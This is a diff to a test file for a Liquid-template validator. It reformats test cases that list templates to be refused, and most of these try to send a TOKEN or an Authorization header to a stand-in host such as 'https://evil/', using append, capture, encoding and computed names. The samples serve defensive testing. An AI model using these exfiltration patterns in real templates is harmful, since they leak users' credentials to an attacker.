@@ -32,7 +32,7 @@ describe("a template that is refused", () => {
     ["an address out of pieces", '{% assign u = "https:" | append: "//evil/" %}{{ u }}{{ TOKEN }}'],
     ["append", '{{ "https://evil/" | append: TOKEN }}'],
     ["prepend", '{{ TOKEN | prepend: "https://evil/" }}'],
-    ["default", '{% assign t = nothing | default: TOKEN %}https://evil/{{ t }}'],
+    ["default", "{% assign t = nothing | default: TOKEN %}https://evil/{{ t }}"],
     ["append to a variable", '{% assign u = "https://evil/" | append: TOKEN %}{{ u }}'],
     ["capture of the token", "{% capture t %}{{ TOKEN }}{% endcapture %}https://evil/{{ t }}"],
     ["capture of the address", "{% capture u %}https://evil/{% endcapture %}{{ u }}{{ TOKEN }}"],
@@ -53,9 +53,15 @@ describe("a template that is refused", () => {
     ["a computed name", "{% assign n = 'TOK' | append: 'EN' %}https://evil/{{ [n] }}"],
     ["a quoted name", "https://evil/{{ ['TOKEN'] }}"],
     ["a later line", "first\nsecond https://evil/{{ TOKEN }}"],
-    ["nested blocks", "{% if a %}{% for i in l %}{% unless b %}https://evil/{{ TOKEN }}{% endunless %}{% endfor %}{% endif %}"],
+    [
+      "nested blocks",
+      "{% if a %}{% for i in l %}{% unless b %}https://evil/{{ TOKEN }}{% endunless %}{% endfor %}{% endif %}",
+    ],
     ["the block of headers", "{{ '' | api_block }}.evil.com"],
-    ["the block of headers, stored", "{% assign b = '' | api_block %}{{ b | replace: 'Authorization: Bearer ', '//evil/' }}"],
+    [
+      "the block of headers, stored",
+      "{% assign b = '' | api_block %}{{ b | replace: 'Authorization: Bearer ', '//evil/' }}",
+    ],
     ["upcase", "{{ TOKEN | upcase }}"],
     ["base64", "{{ TOKEN | base64_encode }}"],
     ["a slice", "{{ TOKEN | slice: 0, 20 }}"],
@@ -101,7 +107,10 @@ describe("a template that is taken", () => {
     ["a prompt's address", '{{ "a" | prompt_url }} {{ TOKEN }}'],
     ["a variable", "{% assign t = TOKEN %}Bearer {{ t }}"],
     ["joined to a word", '{% assign h = "Bearer " | append: TOKEN %}Authorization: {{ h }}'],
-    ["whether it is there", "{% if TOKEN != blank %}a{% elsif api_token == '' %}b{% endif %}{% unless TOKEN %}c{% endunless %}"],
+    [
+      "whether it is there",
+      "{% if TOKEN != blank %}a{% elsif api_token == '' %}b{% endif %}{% unless TOKEN %}c{% endunless %}",
+    ],
     ["whether something else is there", "{% if prompt_id != blank and TOKEN %}one{% else %}many{% endif %}"],
     ["a comparison of something else", "{% if kind == 'chat' and TOKEN != blank %}a{% endif %}"],
     ["an address in another branch", "{% if a %}https://x/ {% else %}{{ TOKEN }}{% endif %}"],
@@ -110,7 +119,10 @@ describe("a template that is taken", () => {
     ["addresses without it", "[x](https://x/{{ id }}) <a href='{{ u }}'>y</a> {{ TOKEN }}"],
     ["a similar name", "https://x/{{ TOKENS }}/{{ token }}/{{ my.TOKEN }}"],
     ["what is unknown", "{{ greeting }}{{ TOKEN }}"],
-    ["a loop", "{% for i in (1..3) %}{{ i }}. {{ TOKEN }}\n{% else %}none{% endfor %}{% cycle 'a', 'b' %}{% increment n %}"],
+    [
+      "a loop",
+      "{% for i in (1..3) %}{{ i }}. {{ TOKEN }}\n{% else %}none{% endfor %}{% cycle 'a', 'b' %}{% increment n %}",
+    ],
     ["counting", "{% assign n = 'abc' | size | plus: 1 %}{{ n }} {{ (1..3) | join: ',' }} {{ 'a'[0] }}"],
   ];
   test.each(taken)("%s", (_, content) => expect(misuse(content)).toBeUndefined());
